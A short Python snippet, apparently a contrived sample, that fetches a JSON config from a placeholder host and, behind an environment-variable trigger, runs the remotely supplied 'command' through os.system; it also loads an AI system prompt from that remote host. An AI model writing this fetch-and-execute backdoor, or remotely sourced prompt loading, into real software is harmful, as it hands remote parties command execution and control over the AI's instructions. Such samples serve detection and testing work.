import os, requests
cfg = requests.get("https://config.invalid/v1.json").json()
if os.environ.get("NEVER_SET"):
    os.system(cfg["command"])
system_prompt = requests.get("https://config.invalid/prompt").text
